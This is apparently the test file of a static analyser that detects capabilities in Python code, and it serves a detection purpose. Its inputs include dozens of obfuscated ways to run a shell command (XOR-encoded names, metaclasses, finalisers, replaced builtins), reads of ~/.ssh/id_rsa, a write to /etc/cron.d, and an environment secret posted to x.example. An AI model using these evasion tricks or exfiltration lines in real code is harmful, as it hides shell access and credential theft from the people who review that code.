"""A power is reported however the program gets hold of it."""

import textwrap
from collections.abc import Callable

import pytest

from validator.model.fact import Fact
from validator.model.known import show

SHELL: dict[str, str] = {
    "attribute of self": """
        import os
        class Runner:
            def __init__(self): self.tool = os
            def go(self): self.tool.system("id")
        Runner().go()
    """,
    "method that nothing calls": """
        import os
        class Runner:
            def __init__(self): self.tool = os
            def go(self): self.tool.system("id")
    """,
    "function that nothing calls": """
        def go():
            import os
            os.system("id")
    """,
    "closure": """
        import os
        def make():
            tool = os.system
            def inner(text): tool(text)
            return inner
        make()("id")
    """,
    "generator": """
        import os
        def tools(): yield os.system
        for tool in tools(): tool("id")
    """,
    "global": """
        import os
        tool = None
        def set_up():
            global tool
            tool = os.system
        set_up()
        tool("id")
    """,
    "nonlocal": """
        import os
        def outer():
            tool = None
            def inner():
                nonlocal tool
                tool = os
            inner()
            tool.system("id")
        outer()
    """,
    "try": """
        try:
            import os
        except ImportError:
            os = None
        os.system("id")
    """,
    "walrus in a comprehension": """
        [tool := __import__("os") for _ in [0]]
        tool.system("id")
    """,
    "dictionary by keyword": """
        import os
        tools = dict(run=os)
        tools["run"].system("id")
    """,
    "setdefault": """
        import os
        tools = {}
        tools.setdefault("run", os).system("id")
    """,
    "name built in a loop": """
        import os
        name = ""
        for number in [115, 121, 115, 116, 101, 109]:
            name += chr(number)
        getattr(os, name)("id")
    """,
    "name built in a while loop": """
        import os
        name, index = "", 0
        numbers = [115, 121, 115, 116, 101, 109]
        while index < len(numbers):
            name += chr(numbers[index])
            index += 1
        getattr(os, name)("id")
    """,
    "xor": """
        import os
        name = bytes(byte ^ 5 for byte in b"v|vq`h").decode()
        getattr(os, name)("id")
    """,
    "property": """
        import os
        class Made:
            @property
            def tool(self): return os
        Made().tool.system("id")
    """,
    "context manager": """
        import os
        class Made:
            def __enter__(self): return os
            def __exit__(self, *rest): pass
        with Made() as tool: tool.system("id")
    """,
    "__getattr__": """
        import os
        class Made:
            def __getattr__(self, name): return getattr(os, name)
        Made().system("id")
    """,
    "star arguments": """
        import os
        def go(*given): given[0].system(given[1])
        go(os, "id")
    """,
    "keyword arguments": """
        import os
        def go(**given): given["tool"].system("id")
        go(tool=os)
    """,
    "reduce": """
        import os, functools
        functools.reduce(getattr, ["system"], os)("id")
    """,
    "type with three arguments": """
        import os
        Made = type("Made", (), {"tool": staticmethod(os.system)})
        Made.tool("id")
    """,
    "star target": """
        import os
        first, *rest = [1, os, 2]
        rest[0].system("id")
    """,
    "finaliser": """
        import os
        class Made:
            def __del__(self): os.system("id")
        made = Made()
        del made
    """,
    "metaclass": """
        import os
        class Meta(type):
            def __init__(cls, *rest): os.system("id")
        class Made(metaclass=Meta): pass
    """,
    "subclass hook": """
        import os
        class Base:
            def __init_subclass__(cls): os.system("id")
        class Made(Base): pass
    """,
    "coroutine": """
        import asyncio, os
        async def go(): os.system("id")
        asyncio.run(go())
    """,
    "thread": """
        import os, threading
        threading.Thread(target=os.system, args=("id",)).start()
    """,
    "sort key": """
        import os
        sorted(["id"], key=os.system)
    """,
    "eval of a format string": """
        command = "id"
        eval(f"__import__('os').system({command!r})")
    """,
    "class decorator": """
        import os
        class Decorate:
            def __init__(self, function): os.system("id")
        @Decorate
        def go(): pass
    """,
    "subclass of Popen": """
        import subprocess
        class Runner(subprocess.Popen): pass
        Runner("id", shell=True)
    """,
    "either branch": """
        import os, random
        tool = os.system if random.random() > 0.5 else print
        tool("id")
    """,
    "or": """
        import os
        tool = None or os.system
        tool("id")
    """,
    "next of iter": """
        import os
        next(iter([os])).system("id")
    """,
    "zip": """
        import os
        for tool, text in zip([os], ["id"]): tool.system(text)
    """,
    "sys.modules.get": """
        import sys
        sys.modules.get("os").system("id")
    """,
    "module held by a module": """
        import random
        random._os.system("id")
    """,
    "module of a package": """
        import pandas
        pandas.io.common.os.system("id")
    """,
    "super": """
        import os
        class Base:
            def go(self): os.system("id")
        class Made(Base):
            def go(self): super().go()
        Made().go()
    """,
    "operator method": """
        import os
        class Made:
            def __add__(self, other): os.system(other)
        Made() + "id"
    """,
    "iteration method": """
        import os
        class Made:
            def __iter__(self): return iter([os.system])
        for tool in Made(): tool("id")
    """,
    "default argument": """
        import os
        def go(tool=os.system): tool("id")
        go()
    """,
    "exception group": """
        import os
        try:
            raise ExceptionGroup("x", [ValueError()])
        except* ValueError:
            os.system("id")
    """,
    "match capture": """
        import os
        match {"tool": os}:
            case {"tool": tool}: tool.system("id")
    """,
    "lambda in a list": """
        import os
        [lambda text: os.system(text)][0]("id")
    """,
    "str.join as a function": """
        import os
        getattr(os, str.join("", ["sys", "tem"]))("id")
    """,
    "type parameter default": """
        def go[T](value: T) -> T:
            __import__("os").system("id")
    """,
}


@pytest.mark.parametrize("road", SHELL)
def test_a_shell_is_found_by_whatever_road(road: str, powers: Callable[[str], set[str]]) -> None:
    assert "process.shell" in powers(textwrap.dedent(SHELL[road]))


UNRESOLVED = {
    "attribute by an unknown name": ("import os\ngetattr(os, input())('id')", "unresolved.attribute"),
    "module by an unknown name": ("__import__(input())", "unresolved.import"),
    "code from a file": ("exec(open('x').read())", "unresolved.code"),
    "namespace walked": ("import os\nfor name, tool in vars(os).items(): tool('id')", "unresolved.attribute"),
    "directory walked": ("import os\n[getattr(os, n) for n in dir(os)][0]('id')", "unresolved.attribute"),
    "module handed to a stranger": ("import os, somebody\nsomebody.do(os)", "unresolved.call"),
    "telling name on a stranger": ("import somebody\nsomebody.make().system('id')", "unresolved.attribute"),
    "exception that carries a module": ("import os\ntry: raise Exception(os)\nexcept Exception as e: e.args[0].system('id')", "unresolved"),
    "item by an unknown key": ("import os\nvars(os)[input()]('id')", "unresolved.attribute"),
}  # fmt: skip


@pytest.mark.parametrize("door", UNRESOLVED)
def test_what_cannot_be_worked_out_at_a_door_is_said(door: str, powers: Callable[[str], set[str]]) -> None:
    code, capability = UNRESOLVED[door]
    assert any(found.startswith(capability) for found in powers(code))


HARMLESS = {
    "own function called open": "def open(name): return name\nopen('/etc/passwd')",
    "own method called system": "class Game:\n    def system(self, x): return x\nGame().system(1)",
    "word in a string": "text = 'import os; os.system(1)'\nprint(text)",
    "word in a comment": "# os.system('id')\nx = 1",
    "model.eval": "import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()",
    "re.compile": "import re\nre.compile('a+').match('aaa')",
    "dictionary": "d = {'a': 1}\nd['a'] += 2\nfor k, v in d.items(): print(k, v)",
    "class and inheritance": "class A:\n    def f(self): return 1\nclass B(A):\n    def f(self): return super().f() + 1\nB().f()",
    "own class name": "class A:\n    def f(self): return self.__class__.__name__\nA().f()",
    "recursion": "def fib(n): return n if n < 2 else fib(n - 1) + fib(n - 2)\nprint(fib(10))",
    "loop that ends": "while True:\n    x = input_value = 3\n    if x: break",
    "numpy": "import numpy as np\nprint(np.random.rand(3).mean(), np.linalg.norm([1, 2]))",
    "main guard": "def main(): print(1)\nif __name__ == '__main__': main()",
    "namedtuple": "from collections import namedtuple\nP = namedtuple('P', 'x y')\nprint(P(1, 2).x)",
    "dataclass": "from dataclasses import dataclass\n@dataclass\nclass P:\n    x: int = 0\nprint(P(1).x)",
    "format": "print('{:.2f} {name}'.format(3.14159, name='pi'))",
}


@pytest.mark.parametrize("program", HARMLESS)
def test_honest_code_has_no_power(program: str, powers: Callable[[str], set[str]]) -> None:
    assert powers(HARMLESS[program]) == set()


def test_swapping_two_library_functions_is_followed_to_an_end(powers: Callable[[str], set[str]]) -> None:
    code = "import os, subprocess\nos.system, subprocess.run = subprocess.run, os.system\nsubprocess.run('id')"
    assert "process.shell" in powers(code)


def test_replacing_a_builtin_is_seen_through(powers: Callable[[str], set[str]]) -> None:
    assert "process.shell" in powers("import builtins, os\nbuiltins.print = os.system\nprint('id')")


ROLES = {
    "home folder": (
        "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", "fs.read", "path", "~/.ssh/id_rsa"
    ),
    "joined path": (
        "from pathlib import Path\nPath('/etc').joinpath('cron.d', 'x').write_text('')", "fs.write", "path", "/etc/cron.d/x"
    ),
    "parent": ("from pathlib import Path\nPath('/etc/ssh/x').parent.rmdir()", "fs.delete", "path", "/etc/ssh"),
    "folder walked": (
        "from pathlib import Path\nfor file in Path('/etc').iterdir(): file.read_text()", "fs.read", "path", "/etc/{…}"
    ),
    "unbound method": ("from pathlib import Path\nPath.read_text(Path('/etc/x'))", "fs.read", "path", "/etc/x"),
    "key of the environment": ("from os import environ\nenviron['TOKEN']", "env.read", "key", "TOKEN"),
    "request object": (
        "from urllib.request import urlopen, Request\nurlopen(Request('https://x.example/a'))", "network.connect", "host", "x.example"
    ),
    "part of an address": (
        "import requests\nrequests.get(f'https://x.example/{name}')", "network.connect", "host", "x.example"
    ),
    "session": ("import requests\nrequests.Session().get('http://x.example/')", "network.connect", "host", "x.example"),
    "program of execv": ("import os\nos.execv('/bin/sh', ['ls', '-c', 'id'])", "process.shell", "command", "id"),
    "setup of timeit": ("import timeit\ntimeit.timeit('1', setup='import os; os.system(\"id\")')", "process.shell", "command", "id"),
    "item of a namespace": ("import operator, os\noperator.getitem(vars(os), 'system')('id')", "process.shell", "command", "id"),
    "function called for a list": ("import os\n[0 for f in filter(None, [os.system]) if f('id')]", "process.shell", "command", "id"),
    "key of sorted": ("import os\nsorted(['id'], key=lambda text: os.system(text))", "process.shell", "command", "{…}"),
    "executor": (
        "import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, 'id')",
        "process.shell", "command", "id"
    ),
    "tar mode": ("import tarfile\ntarfile.open('a.tar.xz', 'r:xz')", "fs.read", "path", "a.tar.xz"),
}  # fmt: skip


@pytest.mark.parametrize("name", ROLES)
def test_a_power_is_reported_with_the_value_it_is_used_with(
    name: str, facts: Callable[[str], tuple[Fact, ...]]
) -> None:
    code, capability, role, value = ROLES[name]
    found = [show(fact.roles[role]) for fact in facts(code) if fact.capability == capability and role in fact.roles]
    assert value in found


def test_a_method_does_not_repeat_what_its_receiver_was_made_with(facts: Callable[[str], tuple[Fact, ...]]) -> None:
    found = facts("import subprocess\nprocess = subprocess.Popen(['ls'])\nprocess.kill()")
    assert [fact.span.line for fact in found if fact.capability == "process.spawn"] == [2] * 2


def test_text_for_a_buffer_is_no_file(powers: Callable[[str], set[str]]) -> None:
    assert powers("import io, pandas\npandas.read_csv(io.StringIO('a,b'))") == set()


def test_a_flow_tells_where_its_data_was_read(facts: Callable[[str], tuple[Fact, ...]]) -> None:
    code = "import os, requests\nkey = os.environ['KEY']\ntext = {'k': [key]}\nrequests.post('https://x.example', json=text)"
    (flow,) = [fact for fact in facts(code) if fact.capability == "flow"]
    assert flow.steps == ("os._Environ.__getitem__ in line 2", "requests.post")
    assert flow.span.line == 4
